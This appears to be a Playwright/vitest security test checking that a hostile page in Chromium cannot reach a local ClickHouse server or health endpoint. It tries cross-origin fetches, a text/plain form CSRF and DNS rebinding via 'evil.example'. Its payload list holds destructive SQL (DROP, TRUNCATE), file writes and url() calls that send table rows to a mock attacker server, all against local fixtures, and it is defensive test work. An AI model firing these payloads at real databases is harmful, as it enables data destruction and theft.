import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { connectClickHouse } from '@tallyboard/clickhouse/client';
import { type RunningClickHouse, startClickHouse } from '@tallyboard/embedded/clickhouse';
import { createHealth, startHealthServer } from '@tallyboard/runtime/health';
import { type Browser, chromium, type Page, type Response } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { executablePath, FLAGS } from './chromium.js';

/** A name of the attacker's that resolves to this machine. */
const REBOUND = 'evil.example';

describe.skipIf(!executablePath)('a page from elsewhere in Chromium', () => {
  const dir = mkdtempSync(join(tmpdir(), 'tally-foreign-page-'));
  /** What the attacker's own server was sent. */
  const stolen: string[] = [];
  let clickhouse: RunningClickHouse;
  /** What guards it guards every service. */
  let service: Awaited<ReturnType<typeof startHealthServer>>;
  let serviceUrl: string;
  let attacker: Server;
  let browser: Browser;
  let page: Page;

  beforeAll(async () => {
    clickhouse = await startClickHouse({ dataDir: join(dir, 'clickhouse'), readableDatabase: 'tally' });
    const owner = connectClickHouse({ ...clickhouse, database: 'default' });
    await owner.command('CREATE DATABASE tally');
    await owner.command('CREATE TABLE tally.deals (id UInt8) ENGINE = MergeTree ORDER BY id');
    await owner.command('INSERT INTO tally.deals VALUES (7)');
    await owner.close();

    service = await startHealthServer({ host: '127.0.0.1', port: 0, health: createHealth() });
    serviceUrl = `http://127.0.0.1:${service.port}/healthz`;

    attacker = createServer((request: IncomingMessage, response) => {
      if (request.url?.startsWith('/stolen')) stolen.push(request.url);
      response.setHeader('content-type', 'text/html').end('<title>a page</title>');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    browser = await chromium.launch({
      executablePath: executablePath ?? '',
      args: [...FLAGS, `--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`],
    });
    page = await browser.newPage();
  });
  afterAll(async () => {
    await browser?.close();
    await service?.close();
    attacker?.close();
    await clickhouse?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  const attackerUrl = (host: string) => `http://${host}:${(attacker.address() as AddressInfo).port}/`;

  /** What a page can read of the answers to these; null: nothing. */
  const read = (urls: string[], init: RequestInit) =>
    page.evaluate(
      ([all, options]) =>
        Promise.all(
          all.map((url) =>
            fetch(url, options)
              .then(async (response) => (response.ok ? await response.text() : null))
              .catch(() => null),
          ),
        ),
      [urls, init] as const,
    );

  const STATEMENTS = () => [
    'DROP TABLE tally.deals',
    'INSERT INTO tally.deals VALUES (8)',
    'TRUNCATE TABLE tally.deals',
    `INSERT INTO FUNCTION file('${join(dir, 'written')}', 'TSV', 'a UInt8') SELECT 1`,
    `SELECT * FROM url('${attackerUrl('127.0.0.1')}stolen-by-url', 'RawBLOB', 'a String')`,
    `INSERT INTO FUNCTION url('${attackerUrl('127.0.0.1')}stolen-by-post', 'TSV', 'a UInt8') SELECT id FROM tally.deals`,
    `SELECT 1 INTO OUTFILE '${join(dir, 'written')}'`,
    `CREATE TABLE tally.f (a UInt8) ENGINE = File(TSV, '${join(dir, 'written')}')`,
  ];

  const nothingHappened = async () => {
    const owner = connectClickHouse({ ...clickhouse, database: 'tally' });
    expect(await owner.rows('SELECT id FROM deals')).toEqual([{ id: 7 }]);
    expect(await owner.rows("SELECT name FROM system.tables WHERE database = 'tally'")).toEqual([
      { name: 'deals' },
    ]);
    await owner.close();
    expect(existsSync(join(dir, 'written'))).toBe(false);
    expect(stolen).toEqual([]);
  };

  it('changes, writes, sends and reads nothing by requests of every kind', async () => {
    await page.goto(attackerUrl('localhost'));
    const { port } = clickhouse;
    for (const body of STATEMENTS()) {
      const plain = { method: 'POST', body, headers: { 'content-type': 'text/plain' } };
      await read([`http://127.0.0.1:${port}/`], { ...plain, mode: 'no-cors' });
      await read([`http://localhost:${port}/?add_http_cors_header=1`], plain);
      await read([`http://127.0.0.1:${port}/?query=${encodeURIComponent(body)}`], { mode: 'no-cors' });
    }
    const select = encodeURIComponent('SELECT id FROM tally.deals');
    const readable = await read(
      [
        `http://127.0.0.1:${port}/?query=${select}`,
        `http://127.0.0.1:${port}/?query=${select}&add_http_cors_header=1`,
        serviceUrl,
      ],
      {},
    );
    expect(readable).toEqual([null, null, null]);
    await nothingHappened();
  });

  it('has a service work for nothing that it sends without wanting to read the answer', async () => {
    await page.goto(attackerUrl('localhost'));
    const answered = new Map<string, number>();
    const note = (response: Response) => {
      if (!response.url().endsWith('/healthz')) return;
      answered.set(
        `${new URL(response.url()).hostname} ${response.request().resourceType()}`,
        response.status(),
      );
    };
    page.on('response', note);
    const urls = [serviceUrl, serviceUrl.replace('127.0.0.1', 'localhost')];
    for (const url of urls) {
      await read([url], { mode: 'no-cors' });
      await page.setContent(`<img src="${url}"><script src="${url}"></script><iframe src="${url}"></iframe>`);
      await page.waitForLoadState('load');
    }
    page.off('response', note);
    expect([...answered.keys()]).toEqual(expect.arrayContaining(['localhost fetch', 'localhost document']));
    expect([...new Set(answered.values())]).toEqual([403]);
  });

  it('and neither by a form', async () => {
    await page.goto(attackerUrl('localhost'));
    await page.setContent(
      `<form method="post" enctype="text/plain" action="http://127.0.0.1:${clickhouse.port}/"><input name="DROP TABLE tally.deals --" value=""></form>`,
    );
    await Promise.all([page.waitForNavigation(), page.evaluate(() => document.forms[0]!.submit())]);
    await page.goto(attackerUrl('localhost'));
    await nothingHappened();
  });

  it('and neither by a name of its own that was made to resolve to this machine', async () => {
    const { port } = clickhouse;
    for (const [url, path] of [
      [`http://${REBOUND}:${port}`, '/?query=SELECT+id+FROM+tally.deals'],
      [serviceUrl.replace('127.0.0.1', REBOUND), ''],
    ] as const) {
      const answer = await page.goto(`${url}${path}`);
      expect([answer?.status(), await page.textContent('body')]).toEqual([
        expect.toSatisfy((status: number) => status === 403 || status === 421),
        expect.not.stringMatching(/^7|"ok":true/),
      ]);
    }
    await nothingHappened();
  });
});
